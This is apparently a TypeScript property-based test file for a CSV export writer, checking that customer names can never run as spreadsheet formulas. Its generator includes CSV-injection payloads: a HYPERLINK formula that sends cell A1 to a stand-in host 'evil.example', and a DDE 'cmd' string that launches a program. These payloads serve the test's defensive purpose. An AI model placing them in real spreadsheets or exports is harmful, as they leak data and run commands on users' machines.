/** The one CSV writer: what a spreadsheet reads back is what we said, and no text of a customer is run as a formula (threat T10). */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvTable } from '../../../../shared/adapters/csv/table.ts';
import type { Column } from '../../../../shared/wire/csv.ts';

type Row = { readonly name: string; readonly amount: string; readonly due: string | null; readonly days: number };
const columns: readonly Column<Row>[] = [
	{ head: 'customer', kind: 'text', value: (row) => row.name },
	{ head: 'open', kind: 'amount', value: (row) => row.amount },
	{ head: 'due', kind: 'day', value: (row) => row.due },
	{ head: 'days', kind: 'number', value: (row) => row.days },
];
const rowOf = (name: string): Row => ({ name, amount: '-12.50', due: null, days: -3 });
const read = (text: string, delimiter = ','): string[][] =>
	parse(text, { bom: true, delimiter, relax_column_count: true, relax_quotes: true });

/** What Excel, LibreOffice and Sheets take for the start of a formula (OWASP, CSV injection), full-width forms included. */
const runs = /^[\s\u200b\ufeff]*[=+\-@\t\r\n＝＋－＠]/;
const hostile = fc
	.tuple(
		fc.constantFrom('', ' ', '  ', '\u00a0', '\n', '\r\n', '\t', '\ufeff', '"', "'", ','),
		fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ''),
		fc.constantFrom('HYPERLINK("http://evil.example?"&A1,"click")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)', 'é"\n,;x', 'Иван;=1+1', ''),
	)
	.map((parts) => parts.join(''));
const anyName = fc.oneof(hostile, fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }));

const unguarded = ([name = '', ...rest]: string[]): string[] => [name.replace(/^'/, ''), ...rest];

describe('a file for spreadsheets', () => {
	it('runs no name as a formula, and loses no letter of it', () => {
		fc.assert(
			fc.property(fc.array(anyName, { minLength: 1, maxLength: 8 }), (names) => {
				const rows = read(csvTable(columns, names.map(rowOf))).slice(1);
				expect(rows).toHaveLength(names.length);
				for (const [i, name] of names.entries()) {
					const cell = rows[i]?.[0] ?? '';
					expect(runs.test(cell)).toBe(false);
					expect([name, `'${name}`]).toContain(cell);
					if (!runs.test(name)) expect(cell).toBe(name);
				}
			}),
			{ numRuns: 500 },
		);
	});

	it('says what csv-stringify would say', () => {
		fc.assert(
			fc.property(fc.array(anyName, { maxLength: 5 }), (names) => {
				// The first line begins with no mark of byte order, which the reader would take off.
				const all = ['Ann', ...names];
				const theirs = stringify(
					all.map((name) => [name, '-12.50', '', '-3']),
					{ record_delimiter: 'windows', quoted_match: /[;\t\r\n]/ },
				);
				expect(read(csvTable(columns, all.map(rowOf), 'more')).map(unguarded)).toEqual(read(theirs).map(unguarded));
			}),
		);
	});

	it('goes on with a file', () => {
		const rows = ['Ann', '=1+1', 'Bo;b', 'C,d'].map(rowOf);
		expect(csvTable(columns, rows.slice(0, 2)) + csvTable(columns, rows.slice(2), 'more')).toBe(csvTable(columns, rows));
	});

	it('runs no name either where the spreadsheet takes ; or tab for the separator', () => {
		fc.assert(
			fc.property(anyName, (name) => {
				const line = csvTable(columns, [rowOf(name)]);
				for (const delimiter of [';', '\t']) {
					// Such a spreadsheet sees a quoted text as one cell, and an unquoted one only if it holds no separator of its own.
					const [, ...records] = read(line, delimiter);
					for (const cell of records.flatMap((cells) => cells.slice(1))) expect(cell.startsWith('=') || cell.startsWith('@')).toBe(false);
				}
			}),
		);
	});

	it('leaves amounts, days and counts alone: a minus there is a minus', () => {
		const text = csvTable(columns, [{ name: 'Ann', amount: '-1234.50', due: '2026-11-22', days: -7 }]);
		expect(text).toBe('\ufeffcustomer,open,due,days\r\nAnn,-1234.50,2026-11-22,-7\r\n');
	});

	it('writes nothing for nothing, and a head even without rows', () => {
		expect(csvTable(columns, [])).toBe('\ufeffcustomer,open,due,days\r\n');
		expect(read(csvTable(columns, [rowOf('')]))[1]).toEqual(['', '-12.50', '', '-3']);
	});

	it('keeps quotes, commas and line ends of a name inside its cell', () => {
		const name = 'Ann "the\r\nBoss", Ltd';
		expect(read(csvTable(columns, [rowOf(name), rowOf('Bob')]))).toHaveLength(3);
		expect(read(csvTable(columns, [rowOf(name)]))[1]?.[0]).toBe(name);
	});
});
